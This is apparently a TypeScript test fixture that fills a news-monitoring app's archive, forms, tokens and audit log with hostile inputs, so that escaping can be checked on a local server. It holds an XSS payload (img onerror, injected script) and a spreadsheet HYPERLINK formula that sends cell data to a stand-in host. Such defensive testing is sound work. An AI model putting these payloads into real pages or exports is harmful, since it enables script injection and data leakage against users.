// An archive and desks in which everything that somebody else wrote is hostile, served on a port; and a way to sign in.
import { mkdtempSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { serve } from '@hono/node-server';
import type { Hono } from 'hono';
import type { Archive } from '../../archive/open.ts';
import { openArchive } from '../../archive/open.ts';
import { groupPending } from '../../cli/grouping.ts';
import { loadKnowledge } from '../../cli/knowledge.ts';
import { KNOWLEDGE_DIR } from '../../cli/paths.ts';
import { openKey } from '../../cli/proving/key.ts';
import { openWatching } from '../../cli/watching/open.ts';
import { captureSome } from '../../oversight/evidence/capture.ts';
import { watchYaml } from '../../oversight/watches/write.ts';
import { Config } from '../../schemas/config.ts';
import { AT, by, candidate, content, extracted, page, site, tags } from '../archive/make.ts';
import { addAccount, newWebsite, signedIn } from '../dashboards/access/website.ts';
import { watch } from '../oversight/make.ts';

/** Leaves an attribute, then an element: alive it is an element or an attribute named x-jahat, or asks for /bocor. */
export const EVIL = `"'x-jahat=1 ><x-jahat><img src=/bocor onerror=alert(1)><script src=/bocor>`;
/** The same where a spreadsheet would run it. */
export const FORMULA = `=HYPERLINK("http://jahat.test/"&A1)`;
/** A character that XML has no place for: a picture that holds it is none. */
const CONTROL = '\u0001';

export type HostilePress = { app: Hono; archive: Archive; address: string; article: string };

/** Everything ends with the test that asks. `close` ends the server, the rest goes by itself. */
export async function openHostilePress(): Promise<
  HostilePress & { cookies: Map<string, string>; close: () => Promise<void> }
> {
  const data = mkdtempSync(join(tmpdir(), 'pantau-hostile-'));
  const archive = openArchive(join(data, 'pantau.sqlite'));
  const article = print(archive);
  ill(archive);
  await watched(archive, data);
  const key = openKey({ data, archive });
  const entering = {
    archive,
    key,
    now: () => Date.parse(AT),
    wanted: 'seen',
    views: 'off',
  } as const;
  await captureSome(entering, 100);
  const stage = newWebsite({ chromium: '/nowhere' }, archive, data);
  addAccount(stage, 'admin', 'admin');
  const browser = signedIn(stage, 'admin');
  const beside = `/artikel/${article}`;
  for (const path of ['', 'catatan', 'tahap']) {
    const fields = { artikel: article, judul: EVIL, cerita: 'ya', catatan: EVIL, tahap: 'bkn' };
    const where = path === '' ? '/perkara' : `/perkara/1/${path}`;
    await browser.submit(beside, where, { ...fields, keterangan: EVIL });
  }
  const said = { versi: '1', relevan: 'ya', wilayah: 'Kota Bontang', jenis: 'dugaan' };
  const words = { 'kutipan-coverage': EVIL, alasan: EVIL };
  await browser.submit(`/tinjau/${article}`, `/tinjau/${article}`, { ...said, ...words });
  stage.access.addToken(
    { account: 'admin', label: EVIL, scopes: ['read'], days: 1 },
    { who: EVIL, from: EVIL },
  );
  stage.access.audit.record('export', `GET /${EVIL}`, { who: EVIL, from: EVIL });

  const server = serve({ fetch: stage.app.fetch, hostname: '127.0.0.1', port: 0 });
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo; // a TCP server has this shape of address
  const close = async (): Promise<void> => {
    const closed = once(server, 'close');
    server.close();
    if ('closeAllConnections' in server) server.closeAllConnections();
    await closed;
    rmSync(data, { recursive: true, force: true });
  };
  const address = `http://127.0.0.1:${port}`;
  return { app: stage.app, archive, address, article, cookies: browser.cookies, close };
}

/** Copies, another telling, an advertorial, an edit, a removal; the last article is that of the desks. */
function print(archive: Archive): string {
  archive.saveSites(
    [site({ name: EVIL }), site({ id: 'lain', name: FORMULA, region: '64.72' })],
    AT,
  );
  let last = '';
  for (const [n, title] of [EVIL, FORMULA, EVIL, `${EVIL}${CONTROL}`].entries()) {
    const from = n % 2 === 0 ? 'natmed' : 'lain';
    archive.addCandidates(from, [candidate(n)], AT);
    for (const body of ['lama', EVIL]) {
      const stored = archive.savePage(page(n, { site: from, body: Buffer.from(`${n} ${body}`) }));
      const read = content(n, [stored], {
        outlet: from,
        textKey: n === 3 ? 'lain' : 'sama',
        extracted: extracted({
          title,
          text: `${EVIL} ${body}\n\n${FORMULA}${CONTROL}`,
          authors: [EVIL],
          section: EVIL,
          credit: EVIL,
          editor: EVIL,
        }),
        tags: tags({
          coverage: 'dugaan',
          violations: ['media_sosial'],
          advertorial: n === 2,
          decision: n === 3 ? 'review' : 'relevant',
          relevance: n === 3 ? 0.5 : 0.9,
          speakers: [{ name: EVIL, role: EVIL }],
          reasons: [
            { tag: 'coverage:dugaan', rule: EVIL, field: 'text', start: 0, end: 20, quote: EVIL },
            { tag: 'region:64.74', rule: EVIL, field: 'url', start: 0, end: 20, quote: EVIL },
          ],
        }),
      });
      last = archive.saveArticle(by(n, stored), read, AT).id;
    }
  }
  archive.markGone(candidate(0).url, 404, AT);
  return last;
}

function ill(archive: Archive): void {
  const cause = 'refused' as const;
  const stands = { at: AT, state: 'ill' as const, cause, detail: EVIL, since: AT, lastNew: AT };
  const rhythm = { lastRound: AT, perWeek: 3, deadline: AT };
  const health = ['natmed', 'lain'].map((id) => ({ site: id, ...stands, ...rhythm }));
  const judged = health.map((one) => ({
    health: one,
    known: '{}',
    expected: [],
    late: new Map<string, number>(),
  }));
  archive.health.saveHealth(judged, { hour: 0, url: 0, round: 0, change: 0 }, true);
  archive.health.openAlarm(cause, ['natmed', 'lain'], AT);
}

async function watched(archive: Archive, data: string): Promise<void> {
  mkdirSync(join(data, 'watches'));
  const channels = [{ kind: 'webhook' as const, url: `https://jahat.test/${encodeURI(EVIL)}` }];
  const one = watch({ id: 'jahat', name: EVIL, channels, offices: [EVIL], freshDays: null });
  const open = { ...one, offices: [] };
  writeFileSync(join(data, 'watches', 'jahat.yaml'), watchYaml(open));
  writeFileSync(join(data, 'watches', 'dinas.yaml'), watchYaml({ ...one, id: 'dinas' }));
  writeFileSync(join(data, 'watches', 'rusak.yaml'), `${EVIL}: [`);
  const workplace = { data, config: Config.parse({}), log: () => {}, archive };
  await groupPending(workplace);
  const watching = openWatching(workplace, loadKnowledge(KNOWLEDGE_DIR), () => [], {
    base: 'http://127.0.0.1/',
    signal: new AbortController().signal,
  });
  await watching.tell();
}
